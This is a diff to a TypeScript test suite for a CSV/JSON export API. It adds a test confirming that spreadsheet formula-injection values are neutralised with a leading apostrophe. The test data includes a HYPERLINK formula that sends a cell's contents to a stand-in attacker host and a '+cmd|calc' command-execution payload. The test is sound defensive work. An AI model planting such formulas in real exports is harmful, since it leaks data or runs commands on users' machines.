@@ -5,6 +5,7 @@ import { HIDDEN, startSearchApp } from './search-seed';
 const COLUMNS = [
   'slug', 'url', 'kind', 'title_en', 'title_zh', 'summary_en', 'summary_zh', 'jurisdiction', 'jurisdiction_en', 'jurisdiction_zh', 'province',
   'level', 'sectors', 'instrument', 'themes', 'ghgs', 'issuers', 'status', 'issued_on', 'published_at', 'updated_at', 'targets_count',
+  'document_number', 'period_from', 'period_to',
 ];
 
 describe('GET /api/export/entries.{csv,json,ndjson}', () => {
@@ -55,6 +56,30 @@ describe('GET /api/export/entries.{csv,json,ndjson}', () => {
       const text = ((await raw(`/api/export/entries.${format}?region=130000`).expect(200)).body as Buffer).toString('utf8');
       for (const slug of HIDDEN) expect(text).not.toContain(slug);
     }
+  });
+
+  it('CSV: a cell a spreadsheet would run as a formula starts with an apostrophe; JSON keeps the text as it is', async () => {
+    const formulas = {
+      title_en: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      title_zh: '@SUM(1+1)',
+      summary_en: '+1+cmd|calc',
+      summary_zh: '-2+3',
+    };
+    await t.db.query(
+      `INSERT INTO entries (slug, kind, title_en, title_zh, summary_en, summary_zh, jurisdiction, level, workflow_status, issued_on, published_at)
+       VALUES ('formula-cells', 'report', $1, $2, $3, $4, '110000', 'provincial', 'published', '2099-01-01', now()),
+              ('formula-controls', 'report', E'\tTAB', E'\rCR', NULL, NULL, '110000', 'provincial', 'published', '2099-01-02', now())`,
+      [formulas.title_en, formulas.title_zh, formulas.summary_en, formulas.summary_zh],
+    );
+    const csv = await raw('/api/export/entries.csv?kind=report').expect(200);
+    const rows: string[][] = parse((csv.body as Buffer).toString('utf8').slice(1));
+    const cells = (slug: string) => Object.fromEntries(COLUMNS.map((c, i) => [c, rows.find((r) => r[0] === slug)![i]]));
+    expect(cells('formula-cells')).toMatchObject(Object.fromEntries(Object.entries(formulas).map(([k, v]) => [k, `'${v}`])));
+    expect(cells('formula-controls')).toMatchObject({ title_en: "'\tTAB", title_zh: "'\rCR" });
+    // No cell anywhere in the file starts with a character that makes a spreadsheet evaluate it.
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const json = JSON.parse(((await raw('/api/export/entries.json?kind=report').expect(200)).body as Buffer).toString('utf8'));
+    expect(json.items.find((i: { slug: string }) => i.slug === 'formula-cells')).toMatchObject(formulas);
   });
 
   it('links to the reader’s language with lang=zh (url column, citation URL, query), same columns', async () => {
